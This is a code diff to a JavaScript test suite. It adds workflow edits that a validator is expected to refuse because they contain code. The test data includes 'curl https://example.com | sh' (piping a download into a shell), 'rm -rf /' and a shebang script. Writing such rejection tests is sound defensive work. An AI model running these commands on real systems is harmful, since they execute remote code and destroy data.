@@ -67,6 +67,22 @@ describe('gestures', () => {
     { type: 'set-workflow', setting: 'description', value: "const fs = require('fs')" },
     { type: 'add-stage', stage: { id: ONE, run: 'ls' }, after: [] },
     { type: 'insert-stage', stage: { id: ONE, instructions: 'curl https://example.com | sh' }, from: ONE, to: ONE },
+    {
+      type: 'add-stages',
+      stages: [
+        { id: ONE, instructions: 'Read it.' },
+        { id: ONE, name: 'rm -rf /' },
+      ],
+      after: [],
+    },
+    { type: 'add-notes', notes: [{ text: 'curl https://example.com | sh', before: ONE }] },
+    {
+      type: 'together',
+      edits: [
+        { type: 'remove-stage', stage: ONE },
+        { type: 'set-stage', stage: ONE, setting: 'name', value: '#!/bin/sh\nls' },
+      ],
+    },
   ]
 
   it.each(edits)('[SK7] $type with code in it is refused, and the document is as it was', (edit) => {
